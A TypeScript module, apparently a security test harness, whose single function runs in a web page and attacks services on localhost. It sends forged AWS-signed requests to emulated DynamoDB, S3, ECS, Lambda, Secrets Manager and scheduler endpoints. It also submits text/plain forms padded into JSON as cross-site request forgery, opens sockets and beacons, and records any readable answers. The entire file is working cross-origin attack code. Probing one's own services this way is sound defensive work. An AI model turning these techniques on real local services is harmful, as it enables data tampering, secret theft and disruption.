/**
 * The attack of a page on the services that listen on this machine. It runs inside the page, so it is one function that
 * uses nothing from outside; what it could read of any answer is its report.
 */
export type Prey = {
  /** `http://127.0.0.1:4350` */
  readonly origins: readonly string[];
  readonly functions: readonly string[];
  /** An item of the table that would be an admin token. */
  readonly tokenItem: object;
  /** Events that make a session and write into it as if the authorizer had let it in. */
  readonly socketEvents: readonly object[];
  readonly apiEvent: object;
  readonly taskArn: string;
  readonly bucket: string;
};

/** Something of an answer that came back to the page. */
export type Readable = {
  readonly trick: string;
  readonly origin: string;
  readonly status: number;
  readonly text: string;
};

export const attack = async (prey: Prey): Promise<readonly Readable[]> => {
  const seen: Readable[] = [];
  const trickMsMax = 2500;
  const date = new Date().toISOString().replace(/[-:]|\.\d+/g, '');
  const forged = (service: string, target?: string): Record<string, string> => ({
    authorization: `AWS4-HMAC-SHA256 Credential=local/${date.slice(0, 8)}/us-east-1/${service}/aws4_request, SignedHeaders=host;x-amz-date, Signature=${'0'.repeat(64)}`,
    'x-amz-date': date,
    ...(target === undefined ? {} : { 'x-amz-target': target }),
    'content-type': 'application/x-amz-json-1.0',
  });
  const query = '?X-Amz-Signature=1&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=local';
  const table = 'DynamoDB_20120810';
  const put = JSON.stringify({ TableName: 'sallyport', Item: prey.tokenItem });
  const ecs = 'AmazonEC2ContainerServiceV20141113';
  const stop = JSON.stringify({ cluster: 'sallyport', task: prey.taskArn });
  const schedule = JSON.stringify({
    ScheduleExpression: 'at(2020-01-01T00:00:00)',
    FlexibleTimeWindow: { Mode: 'OFF' },
    Target: { Arn: prey.functions[0], RoleArn: 'arn:aws:iam::000000000000:role/x', Input: '{}' },
  });
  const invocations = [
    ...prey.socketEvents.map((event) => ['sallyport-socket', event] as const),
    ['sallyport-api', prey.apiEvent] as const,
    ...prey.functions.map((name) => [name, { sweep: 'orphans' }] as const),
  ].map(([name, event]): [string, string] => [
    `/2015-03-31/functions/${name}/invocations`,
    JSON.stringify(event),
  ]);
  const calls: readonly [trick: string, path: string, init: RequestInit][] = [
    ['ListTables', '/', { method: 'POST', headers: forged('dynamodb', `${table}.ListTables`), body: '{}' }],
    [
      'Scan',
      '/',
      { method: 'POST', headers: forged('dynamodb', `${table}.Scan`), body: '{"TableName":"sallyport"}' },
    ],
    ['PutItem', '/', { method: 'POST', headers: forged('dynamodb', `${table}.PutItem`), body: put }],
    [
      'ListTasks',
      '/',
      { method: 'POST', headers: forged('ecs', `${ecs}.ListTasks`), body: '{"cluster":"sallyport"}' },
    ],
    ['StopTask', '/', { method: 'POST', headers: forged('ecs', `${ecs}.StopTask`), body: stop }],
    [
      'faults',
      '/faults',
      { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"throttles":9}' },
    ],
    ['list objects', `/${prey.bucket}?list-type=2`, { headers: forged('s3') }],
    ['list objects by query', `/${prey.bucket}${query}&list-type=2`, {}],
    ['put an object', `/${prey.bucket}/planted`, { method: 'PUT', headers: forged('s3'), body: 'planted' }],
    [
      'make a schedule',
      '/schedules/planted',
      { method: 'POST', headers: forged('scheduler'), body: schedule },
    ],
    [
      'CreateSecret',
      '/',
      {
        method: 'POST',
        headers: forged('secretsmanager', 'secretsmanager.CreateSecret'),
        body: '{"Name":"planted","SecretString":"x"}',
      },
    ],
    [
      'GetSecretValue',
      '/',
      {
        method: 'POST',
        headers: forged('secretsmanager', 'secretsmanager.GetSecretValue'),
        body: '{"SecretId":"planted"}',
      },
    ],
    ['connections', '/ws/@connections/x', { method: 'POST', headers: forged('execute-api'), body: 'x' }],
    ['health', '/health', {}],
    ['sandbox call', '/call', { method: 'POST', body: '{}' }],
    ['tokens', '/api/tokens', {}],
    ['make a session', '/api/sessions', { method: 'POST', body: '{}' }],
    [
      'mcp',
      '/mcp',
      {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
      },
    ],
    ...invocations.flatMap(([path, body]): [string, string, RequestInit][] => [
      [`invoke ${path}`, path, { method: 'POST', headers: forged('lambda'), body }],
      [
        `invoke by query ${path}`,
        `${path}${query}`,
        { method: 'POST', headers: { 'content-type': 'text/plain' }, body },
      ],
    ]),
  ];
  const ask = async (origin: string, [trick, path, init]: (typeof calls)[number], mode: RequestMode) => {
    const sent = mode === 'no-cors' ? { ...init, headers: { 'content-type': 'text/plain' } } : init;
    const options: RequestInit = {
      ...sent,
      mode,
      credentials: 'include',
      cache: 'no-store',
      signal: AbortSignal.timeout(trickMsMax),
    };
    const answer = await fetch(`${origin}${path}`, options).catch(() => undefined);
    if (answer === undefined || answer.type === 'opaque') return;
    const text = (await answer.text().catch(() => '')).slice(0, 500);
    seen.push({ trick: `${mode} ${trick}`, origin, status: answer.status, text });
  };
  const settled = (begin: (done: (loaded?: string) => void) => void, origin: string) =>
    new Promise<void>((resolve) => {
      setTimeout(resolve, trickMsMax);
      begin((loaded) => {
        if (loaded !== undefined) seen.push({ trick: loaded, origin, status: 200, text: '' });
        resolve();
      });
    });
  const element = (origin: string, name: string, attributes: Record<string, string>) =>
    settled((done) => {
      const made = document.createElement(name);
      made.addEventListener('load', () => done(name === 'iframe' ? undefined : `${name} loaded`));
      made.addEventListener('error', () => done());
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      document.body.append(made);
    }, origin);
  /** Its frame leaves with its answer: hundreds of them would slow the page down. */
  const form = async (origin: string, path: string, body: string): Promise<void> => {
    const frame = document.createElement('iframe');
    frame.name = `frame-${Math.random()}`;
    const made = document.createElement('form');
    Object.assign(made, {
      action: `${origin}${path}`,
      method: 'post',
      enctype: 'text/plain',
      target: frame.name,
    });
    // A form of plain text is `name=value`: the equals sign goes into a string of the JSON.
    const field = document.createElement('input');
    field.name = `${body.slice(0, -1)},"padding":"`;
    field.value = '"}';
    made.append(field);
    document.body.append(frame, made);
    await settled((done) => {
      frame.addEventListener('load', () => done());
      made.submit();
    }, origin);
    frame.remove();
    made.remove();
  };
  const rest = (origin: string): Promise<unknown>[] => [
    settled((done) => {
      const socket = new WebSocket(`${origin.replace('http', 'ws')}/ws`);
      socket.onopen = () => done('a socket opened');
      socket.onerror = () => done();
    }, origin),
    settled((done) => {
      const source = new EventSource(`${origin}/`);
      source.onopen = () => done('an event source opened');
      source.onerror = () => {
        source.close();
        done();
      };
    }, origin),
    element(origin, 'img', { src: `${origin}/${prey.bucket}${query}&list-type=2` }),
    element(origin, 'script', { src: `${origin}/${query}` }),
    element(origin, 'iframe', { src: `${origin}/${prey.bucket}${query}&list-type=2` }),
    element(origin, 'link', { rel: 'stylesheet', href: `${origin}/${query}` }),
  ];
  const attackOne = async (origin: string): Promise<void> => {
    await Promise.all(calls.flatMap((call) => [ask(origin, call, 'cors'), ask(origin, call, 'no-cors')]));
    for (const [path, body] of invocations) navigator.sendBeacon(`${origin}${path}${query}`, body);
    await Promise.all([
      ...invocations.map(([path, body]) => form(origin, `${path}${query}`, body)),
      form(origin, `/schedules/planted${query}`, schedule),
      form(origin, `/${prey.bucket}${query}&delete`, '{}'),
      ...rest(origin),
    ]);
  };
  // Most of the time is waiting for what never answers.
  await Promise.all(prey.origins.map(attackOne));
  await new Promise((resolve) => setTimeout(resolve, 500));
  return seen;
};
